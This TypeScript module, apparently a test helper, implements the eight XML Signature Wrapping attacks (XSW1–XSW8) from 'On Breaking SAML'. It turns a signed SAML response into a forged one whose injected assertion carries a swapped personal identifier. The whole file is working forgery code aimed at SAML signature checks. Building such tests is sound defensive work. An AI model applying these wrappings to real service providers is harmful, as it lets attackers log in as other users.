const signature = /<ds:Signature[^]*?<\/ds:Signature>/g;
const wholeAssertion = /<saml2:Assertion[^]*<\/saml2:Assertion>/;

/** The parts of a response with a plain signed assertion, and an assertion that an attacker wants to be accepted. */
interface Parts {
  readonly response: string;
  readonly responseSignature: string;
  readonly assertion: string;
  readonly assertionSignature: string;
  readonly bareAssertion: string;
  readonly evil: string;
}

function partsOf(response: string): Parts {
  const [responseSignature = '', assertionSignature = ''] = response.match(signature) ?? [];
  const assertion = wholeAssertion.exec(response)?.[0] ?? '';
  const bareAssertion = assertion.replace(assertionSignature, '');
  const evil = bareAssertion.replace(/ ID="[^"]+"/, ' ID="_evil"').replace('210281-9988', '010190-999W');
  return { response, responseSignature, assertion, assertionSignature, bareAssertion, evil };
}

/** A response with the attacker's content; `hide` places the signed one. */
function evilResponse(parts: Parts, hide: (signature: string, original: string) => string): string {
  const { response, responseSignature, assertion, evil } = parts;
  const original = response.replace(responseSignature, '');
  return response
    .replace(assertion, () => evil)
    .replace(/ ID="[^"]+"/, ' ID="_evil-response"')
    .replace(responseSignature, () => hide(responseSignature, original));
}

const inside = (element: string, content: string) =>
  element.replace(/<\/ds:Signature>$/, () => `<ds:Object>${content}</ds:Object></ds:Signature>`);
const signedBy = (element: string, own: string) =>
  element.replace('</saml2:Issuer>', () => `</saml2:Issuer>${own}`);

/**
 * The eight ways of wrapping signatures of Somorovsky et al., "On Breaking SAML" (2012): the signed content is still there, but something
 * else is read.
 */
const wrappings: Readonly<Record<string, (parts: Parts) => string>> = {
  XSW1: (parts) => evilResponse(parts, inside),
  XSW2: (parts) => evilResponse(parts, (own, original) => original + own),
  XSW3: ({ response, assertion, evil }) => response.replace(assertion, () => evil + assertion),
  XSW4: ({ response, assertion, evil }) =>
    response.replace(assertion, () =>
      evil.replace(/<\/saml2:Assertion>$/, () => `${assertion}</saml2:Assertion>`),
    ),
  XSW5: ({ response, assertion, assertionSignature, bareAssertion, evil }) =>
    response.replace(assertion, () => signedBy(evil, assertionSignature) + bareAssertion),
  XSW6: ({ response, assertion, assertionSignature, bareAssertion, evil }) =>
    response.replace(assertion, () => signedBy(evil, inside(assertionSignature, bareAssertion))),
  XSW7: ({ response, assertion, evil }) =>
    response.replace(assertion, () => `<saml2p:Extensions>${evil}</saml2p:Extensions>${assertion}`),
  XSW8: ({ response, assertion, assertionSignature, bareAssertion, evil }) =>
    response.replace(assertion, () => signedBy(bareAssertion, inside(assertionSignature, evil))),
};

export const wrappingNames = Object.keys(wrappings);

/** Wraps the signatures of a response whose assertion is signed and not encrypted. */
export function wrap(name: string, response: string): string {
  const wrapped = wrappings[name]?.(partsOf(response)) ?? response;
  if (wrapped === response) throw new Error(`${name} changed nothing`);
  return wrapped;
}
